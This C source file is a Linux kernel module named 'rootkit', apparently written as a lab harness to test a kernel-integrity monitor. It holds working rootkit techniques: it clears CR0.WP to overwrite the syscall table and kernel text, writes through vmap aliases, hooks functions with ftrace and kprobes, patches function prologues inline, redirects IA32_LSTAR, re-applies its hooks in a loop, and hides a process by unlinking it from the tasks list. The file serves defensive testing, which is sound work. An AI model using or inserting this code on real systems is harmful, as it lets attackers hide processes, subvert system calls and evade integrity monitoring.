// SPDX-License-Identifier: GPL-2.0
/*
 * rootkit: the attacks of issue 9 as a lab guest kernel module, each run on its own when
 * its name is written to /sys/module/rootkit/parameters/run:
 *
 *   wp      clear CR0.WP, then overwrite sys_call_table[__NR_kill] and the first bytes of
 *           __x64_sys_kill's text (technique a)
 *   alias   write sys_call_table[__NR_kill] through a fresh writable alias (vmap) of its
 *           physical page (b)
 *   ftrace  hook cgroup_freeze_write and __x64_sys_kill with ftrace (IPMODIFY): they return
 *           success and do nothing (c)
 *   kprobe  the same with kprobes whose handler returns for the function (c)
 *   inline  patch the first bytes of cgroup_freeze_write (after its ENDBR) through a
 *           writable alias of its text page: "mov rax, rdx; ret" returns nbytes (d)
 *   lstar   point IA32_LSTAR at a stub of its own (e); if the write is taken, LSTAR is put
 *           back at once (the stub is not mapped in the user page tables PTI switches
 *           from, so the guest could not survive a system call through it)
 *   loop S  put the inline patch back every millisecond for S seconds from a kernel thread
 *           (g: a hook re-applied while an operation runs)
 *   hide N  take process N off the tasks list (f): list_del_init under tasklist_lock, so its
 *           exit later unlinks nothing and the kernel stays sound; /proc (the pid IDR)
 *           still lists it, for_each_process and a tasks-list walk do not
 *
 * Every attack that can fault is done with an exception-table fixup, so a refused one
 * (#GP from a pinned CR0 bit or MSR) does not oops. Each logs one line, which the lab's
 * /init repeats on the console (tools/lab/guest/init, rootkit-request):
 *
 *   GUEST-ROOTKIT <name> <what happened, key=value>
 *
 * The hooks stay in place (the module is never unloaded in the lab): what an operation
 * does afterwards shows whether the monitor repaired them. Built against Debian's headers
 * of the lab kernel by tools/lab/build-module.sh (by hand: make -C /lib/modules/REL/build
 * M=$PWD modules).
 */
#define pr_fmt(fmt) "rootkit: " fmt

#include <linux/ftrace.h>
#include <linux/kernel.h>
#include <linux/delay.h>
#include <linux/jiffies.h>
#include <linux/kprobes.h>
#include <linux/kthread.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/pid.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/string.h>
#include <linux/vmalloc.h>
#include <asm/asm.h>
#include <asm/msr.h>
#include <asm/processor-flags.h>
#include <asm/unistd.h>

static unsigned long (*lookup)(const char *name);

/* kallsyms_lookup_name is not exported since 5.7: a kprobe on it says where it is */
static int find_lookup(void)
{
	struct kprobe kp = {.symbol_name = "kallsyms_lookup_name"};
	int rc = register_kprobe(&kp);

	if (rc < 0)
		return rc;
	lookup = (unsigned long (*)(const char *))kp.addr;
	unregister_kprobe(&kp);
	return 0;
}

static long stub_kill(const struct pt_regs *regs)
{
	return 0;
}

static ssize_t stub_freeze(void *of, char *buf, size_t nbytes, loff_t off)
{
	return nbytes;
}

/* clang-format would write the exception-table macro's "%0" as "% 0" */
/* clang-format off */
/* mov to CR0 with a fixup: 0, or -EFAULT when the CPU refused it (#GP) */
static int write_cr0_safe(unsigned long v)
{
	int err = 0;

	asm volatile("1: mov %1, %%cr0\n"
		     "2:\n" _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, %0)
		     : "+r"(err)
		     : "r"(v)
		     : "memory");
	return err;
}

/* stores with a fixup: a write the page tables refuse faults (copy_to_kernel_nofault is
 * not exported) */
static int store8_safe(void *p, unsigned long v)
{
	int err = 0;

	asm volatile("1: movq %2, (%1)\n"
		     "2:\n" _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, %0)
		     : "+r"(err)
		     : "r"(p), "r"(v)
		     : "memory");
	return err;
}

static int store1_safe(u8 *p, u8 v)
{
	int err = 0;

	asm volatile("1: movb %2, (%1)\n"
		     "2:\n" _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, %0)
		     : "+r"(err)
		     : "r"(p), "q"(v)
		     : "memory");
	return err;
}

/* clang-format on */

static int copy_safe(u8 *dst, const u8 *src, size_t n)
{
	for (size_t i = 0; i < n; i++)
		if (store1_safe(dst + i, src[i]))
			return -EFAULT;
	return 0;
}

static unsigned long *syscall_table(void)
{
	return (unsigned long *)lookup("sys_call_table");
}

/* A writable alias of the page holding p (vmap of its struct page): the image's own
 * mapping stays read-only, as a careful rootkit would leave it. */
static void *alias_of(void *p, void **mapping)
{
	struct page *pg = is_vmalloc_addr(p) ? vmalloc_to_page(p) : virt_to_page(p);

	if (!is_vmalloc_addr(p) && !virt_addr_valid(p))
		pg = pfn_to_page(__pa_symbol(p) >> PAGE_SHIFT);
	*mapping = vmap(&pg, 1, VM_MAP, PAGE_KERNEL);
	return *mapping ? (char *)*mapping + offset_in_page(p) : NULL;
}

static void attack_wp(void)
{
	unsigned long cr0 = read_cr0(), *table = syscall_table();
	unsigned long before = table[__NR_kill];
	void *kill_text = (void *)lookup("__x64_sys_kill");
	u8 text_before[4], ret0[4] = {0x31, 0xc0, 0xc3, 0x90}; /* xor eax, eax; ret; nop */
	int wp_rc = write_cr0_safe(cr0 & ~X86_CR0_WP);
	bool cleared = !(read_cr0() & X86_CR0_WP);
	int table_rc = -1, text_rc = -1;

	memcpy(text_before, kill_text, sizeof(text_before));
	if (cleared) {
		table_rc = store8_safe(&table[__NR_kill], (unsigned long)stub_kill);
		text_rc = copy_safe((u8 *)kill_text + 4, ret0, sizeof(ret0));
		write_cr0_safe(cr0);
	}
	pr_notice("GUEST-ROOTKIT wp cr0_write=%s wp_cleared=%d table_write=%d table_changed=%d "
		  "text_write=%d\n",
		  wp_rc ? "refused" : "done", cleared, table_rc, table[__NR_kill] != before,
		  text_rc);
}

static void attack_alias(void)
{
	unsigned long *table = syscall_table(), before = table[__NR_kill];
	void *mapping;
	unsigned long *alias = alias_of(&table[__NR_kill], &mapping);
	int rc = alias ? store8_safe(alias, (unsigned long)stub_kill) : -ENOMEM;
	unsigned long through_alias = alias ? *alias : 0;

	if (mapping)
		vunmap(mapping);
	pr_notice("GUEST-ROOTKIT alias write=%d alias_reads_stub=%d table_changed=%d\n", rc,
		  through_alias == (unsigned long)stub_kill, table[__NR_kill] != before);
}

static unsigned long freeze_addr, kill_addr;

static void notrace ftrace_redirect(unsigned long ip, unsigned long parent_ip,
				    struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	if (!regs)
		return;
	if (ip == freeze_addr)
		regs->ip = (unsigned long)stub_freeze;
	else if (ip == kill_addr)
		regs->ip = (unsigned long)stub_kill;
}

static struct ftrace_ops hook_ops = {
	.func = ftrace_redirect,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY | FTRACE_OPS_FL_RECURSION,
};

static void attack_ftrace(void)
{
	/* not exported either */
	unsigned long (*location)(unsigned long) = (void *)lookup("ftrace_location");
	int rc;

	freeze_addr = location(lookup("cgroup_freeze_write"));
	kill_addr = location(lookup("__x64_sys_kill"));
	rc = ftrace_set_filter_ip(&hook_ops, freeze_addr, 0, 0);
	if (!rc)
		rc = ftrace_set_filter_ip(&hook_ops, kill_addr, 0, 0);
	if (!rc)
		rc = register_ftrace_function(&hook_ops);
	pr_notice("GUEST-ROOTKIT ftrace register=%d freeze=0x%lx kill=0x%lx\n", rc, freeze_addr,
		  kill_addr);
}

/* Return from the probed function at once, as if it had returned `value`. */
static int return_now(struct pt_regs *regs, unsigned long value)
{
	regs->ax = value;
	regs->ip = *(unsigned long *)regs->sp;
	regs->sp += sizeof(unsigned long);
	return 1; /* the handler changed ip: no single-step */
}

static int kp_freeze(struct kprobe *p, struct pt_regs *regs)
{
	return return_now(regs, regs->dx); /* nbytes */
}

static int kp_kill(struct kprobe *p, struct pt_regs *regs)
{
	return return_now(regs, 0);
}

static struct kprobe kprobe_freeze = {.symbol_name = "cgroup_freeze_write",
				      .pre_handler = kp_freeze};
static struct kprobe kprobe_kill = {.symbol_name = "__x64_sys_kill", .pre_handler = kp_kill};

static void attack_kprobe(void)
{
	int a = register_kprobe(&kprobe_freeze), b = register_kprobe(&kprobe_kill);

	pr_notice("GUEST-ROOTKIT kprobe freeze=%d kill=%d at=0x%lx,0x%lx\n", a, b,
		  (unsigned long)kprobe_freeze.addr, (unsigned long)kprobe_kill.addr);
}

static const u8 ret_nbytes[4] = {0x48, 0x89, 0xd0, 0xc3}; /* mov rax, rdx; ret */

/* The patch of cgroup_freeze_write (after its ENDBR) through an alias of its page: 0 or an
 * error; *at: where. */
static u8 *freeze_at(void)
{
	static const u8 endbr64[4] = {0xf3, 0x0f, 0x1e, 0xfa};
	u8 *fn = (u8 *)lookup("cgroup_freeze_write");

	return fn + (memcmp(fn, endbr64, 4) == 0 ? 4 : 0);
}

static int patch_freeze(u8 **at)
{
	void *mapping;
	u8 *alias;
	int rc;

	*at = freeze_at();
	alias = alias_of(*at, &mapping);
	rc = alias ? copy_safe(alias, ret_nbytes, sizeof(ret_nbytes)) : -ENOMEM;
	if (mapping)
		vunmap(mapping);
	return rc;
}

static void attack_inline(void)
{
	u8 *at;
	int rc = patch_freeze(&at);

	pr_notice("GUEST-ROOTKIT inline write=%d at=0x%lx patched=%d\n", rc, (unsigned long)at,
		  memcmp(at, ret_nbytes, sizeof(ret_nbytes)) == 0);
}

/* (g): the inline patch put back every millisecond for SECS seconds, by a kernel thread,
 * whenever it is not there: an operation meanwhile must not be reported done on a hooked
 * kernel. "GUEST-ROOTKIT loop-done rewrites=N" in the kernel log at its end. */
static unsigned long loop_until;

static int loop_fn(void *data)
{
	unsigned long rewrites = 0, looks = 0;
	u8 *at;

	while (!kthread_should_stop() && time_before(jiffies, loop_until)) {
		looks++;
		if (memcmp(freeze_at(), ret_nbytes, sizeof(ret_nbytes)) != 0 &&
		    patch_freeze(&at) == 0)
			rewrites++; /* it had been put back */
		usleep_range(1000, 2000);
	}
	pr_notice("GUEST-ROOTKIT loop-done rewrites=%lu looks=%lu\n", rewrites, looks);
	return 0;
}

static void attack_loop(const char *arg)
{
	struct task_struct *t = NULL;
	int secs, rc = kstrtoint(arg, 10, &secs);

	if (rc == 0 && (secs <= 0 || secs > 600))
		rc = -EINVAL;
	if (rc == 0) {
		loop_until = jiffies + (unsigned long)secs * HZ;
		t = kthread_run(loop_fn, NULL, "rk-loop");
		rc = IS_ERR(t) ? (int)PTR_ERR(t) : 0;
	}
	pr_notice("GUEST-ROOTKIT loop started=%d secs=%s pid=%d\n", rc == 0, arg,
		  rc == 0 ? t->pid : 0);
}

static void attack_lstar(void)
{
	u64 before, after;
	int rc;

	rdmsrl(MSR_LSTAR, before);
	rc = wrmsrl_safe(MSR_LSTAR, (u64)(unsigned long)stub_kill);
	rdmsrl(MSR_LSTAR, after);
	if (after != before)
		wrmsrl(MSR_LSTAR, before);
	pr_notice("GUEST-ROOTKIT lstar write=%d moved=%d\n", rc, after != before);
}

static void attack_hide(const char *arg)
{
	struct task_struct *t;
	/* not exported: found as kallsyms_lookup_name was */
	rwlock_t *tasklist = lookup ? (rwlock_t *)lookup("tasklist_lock") : NULL;
	int nr, rc = kstrtoint(arg, 10, &nr);

	if (rc == 0 && tasklist == NULL)
		rc = -ENOENT;
	if (rc == 0) {
		rcu_read_lock();
		t = pid_task(find_vpid(nr), PIDTYPE_PID);
		if (t != NULL && thread_group_leader(t)) {
			write_lock_irq(tasklist);
			list_del_init(&t->tasks);
			write_unlock_irq(tasklist);
		} else {
			rc = -ESRCH;
		}
		rcu_read_unlock();
	}
	pr_notice("GUEST-ROOTKIT hide pid=%s unlinked=%d\n", arg, rc == 0);
}

static const struct {
	const char *name;
	void (*run)(void);
} attacks[] = {
	{"wp", attack_wp},         {"alias", attack_alias},   {"ftrace", attack_ftrace},
	{"kprobe", attack_kprobe}, {"inline", attack_inline}, {"lstar", attack_lstar},
};

static int run_set(const char *val, const struct kernel_param *kp)
{
	size_t n = strcspn(val, "\n");
	char arg[16];

	if (n > 5 && n - 5 < sizeof(arg) && !strncmp(val, "loop ", 5)) {
		memcpy(arg, val + 5, n - 5);
		arg[n - 5] = '\0';
		attack_loop(arg);
		return 0;
	}
	if (n > 5 && n - 5 < sizeof(arg) && !strncmp(val, "hide ", 5)) {
		memcpy(arg, val + 5, n - 5);
		arg[n - 5] = '\0';
		attack_hide(arg);
		return 0;
	}
	for (size_t i = 0; i < ARRAY_SIZE(attacks); i++) {
		if (strlen(attacks[i].name) == n && !strncmp(val, attacks[i].name, n)) {
			attacks[i].run();
			return 0;
		}
	}
	pr_notice("GUEST-ROOTKIT unknown=%.*s\n", (int)n, val);
	return -EINVAL;
}

static const struct kernel_param_ops run_ops = {.set = run_set};
module_param_cb(run, &run_ops, NULL, 0200);
MODULE_PARM_DESC(
	run, "the attack to run: wp, alias, ftrace, kprobe, inline, lstar, loop SECS, hide PID");

static int __init rootkit_init(void)
{
	int rc = find_lookup();

	if (rc < 0)
		pr_notice("GUEST-ROOTKIT loaded=0 lookup=%d\n", rc);
	else
		pr_notice("GUEST-ROOTKIT loaded=1\n");
	return rc;
}

module_init(rootkit_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("The lab's rootkit: kernel integrity attacks of issue 9");
